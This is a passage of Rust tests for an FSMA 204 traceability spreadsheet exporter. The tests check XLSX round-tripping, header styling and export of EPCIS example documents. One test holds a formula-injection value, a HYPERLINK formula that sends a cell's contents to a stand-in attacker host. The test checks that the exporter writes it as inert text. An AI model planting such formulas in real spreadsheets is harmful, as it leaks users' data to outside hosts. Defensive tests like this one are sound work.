        .iter()
        .map(|cell| match cell {
            Data::String(text) => text.clone(),
            other => panic!("header {other:?}"),
        })
        .collect();
    (headers, rows[1..].to_vec())
}

fn as_data(cell: &Cell) -> Data {
    match cell {
        Cell::Text(text) => Data::String(text.clone()),
        Cell::Number(number) => Data::Float(*number),
        Cell::Empty => Data::Empty,
    }
}

/// A file of the XLSX package, as text.
fn xlsx_part(bytes: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes.to_vec())).unwrap();
    let mut text = String::new();
    archive
        .by_name(name)
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    text
}

#[test]
fn the_chain_as_xlsx_reads_back_cell_for_cell() {
    let events = chain_events();
    let sheet = fsma204_sheet(&inputs(&events));
    let bytes = sheet.to_xlsx().unwrap();
    let (headers, rows) = read_xlsx(&bytes);
    assert_eq!(headers, COLUMNS);
    assert_eq!(rows.len(), sheet.rows.len());
    for (n, (got, want)) in rows.iter().zip(&sheet.rows).enumerate() {
        let want: Vec<Data> = want.iter().map(as_data).collect();
        assert_eq!(got, &want, "row {n}");
    }

    // A frozen, bold header row and an autofilter over every row and column (A1:U11).
    let worksheet = xlsx_part(&bytes, "xl/worksheets/sheet1.xml");
    assert!(
        worksheet.contains(
            r#"<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>"#
        ),
        "{worksheet}"
    );
    assert!(
        worksheet.contains(r#"<autoFilter ref="A1:U11"/>"#),
        "{worksheet}"
    );
    assert!(
        worksheet.contains(r#"<col min="7" max="7" width="#),
        "{worksheet}"
    );
    let styles = xlsx_part(&bytes, "xl/styles.xml");
    assert!(styles.contains("<b/>"), "{styles}");
    // Header cells use the bold style (index 1), data cells the default.
    assert!(
        worksheet.contains(r#"<c r="A1" s="1" t="s">"#),
        "{worksheet}"
    );
    assert!(worksheet.contains(r#"<c r="A2" t="s">"#), "{worksheet}");
}

#[test]
fn hostile_text_is_a_string_cell_in_xlsx() {
    let (sheet, _event) = hostile_sheet();
    let bytes = sheet.to_xlsx().unwrap();
    let (_, rows) = read_xlsx(&bytes);
    let want: Vec<Data> = sheet.rows[0].iter().map(as_data).collect();
    assert_eq!(rows, vec![want]);
    assert_eq!(
        rows[0][6],
        Data::String("=HYPERLINK(\"http://evil.example/?\"&A1,\"Spinach\")".to_owned())
    );
    let worksheet = xlsx_part(&bytes, "xl/worksheets/sheet1.xml");
    assert!(!worksheet.contains("<f>"), "no formula cell: {worksheet}");
}

/// Every event of the project's EPCIS example documents (GS1's examples and the event hash
/// reference's, in both bindings; read at test time from `$RETU_VECTORS`, else
/// `shared/vectors` beside the work tree) goes through the export without a panic, and every
/// CTE event gives at least one full row, which both file formats can write.
#[test]
fn every_vector_document_exports() {
    let vectors = std::env::var_os("RETU_VECTORS").map_or_else(
        || std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/vectors"),
        std::path::PathBuf::from,
    );
    let root = vectors.join("epcis");
    assert!(
        root.is_dir(),
        "test vectors not found at {}; set RETU_VECTORS to the shared/vectors folder",
        root.display()
    );
    let mut folders = vec![root];
    let mut documents = 0;
    let mut cte_events = 0;
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
                continue;
            }
            let is_document = path
                .extension()
                .is_some_and(|e| e == "json" || e == "jsonld" || e == "xml");
            let Ok(parsed) = epcis::parse(&std::fs::read(&path).unwrap()) else {
                continue;
            };
            if !is_document || parsed.document.events.is_empty() {
                continue;
            }
            documents += 1;
            let inputs: Vec<FsmaInput<'_>> = parsed
                .document
                .events
                .iter()
                .zip(0..)
                .map(|(event, log_index)| FsmaInput {
                    log_index,
                    event,
                    organisation: "vectors",
                })
                .collect();
            let ctes = inputs
                .iter()
                .filter(|input| cte_of(input.event).is_some())
                .count();
            cte_events += ctes;
            let sheet = fsma204_sheet(&inputs);
            assert!(sheet.rows.len() >= ctes, "{}", path.display());
            assert!(
                sheet.rows.iter().all(|row| row.len() == COLUMNS.len()),
                "{}",
                path.display()
            );
            assert!(!sheet.to_csv().is_empty());
            sheet
                .to_xlsx()
                .unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        }
    }
    // The examples hold dozens of documents with shipping, receiving and commissioning events;
    // finding none would mean the folder or the parser changed under this test.
    assert!(documents >= 100, "only {documents} documents");
    assert!(cte_events >= 400, "only {cte_events} CTE events");
}
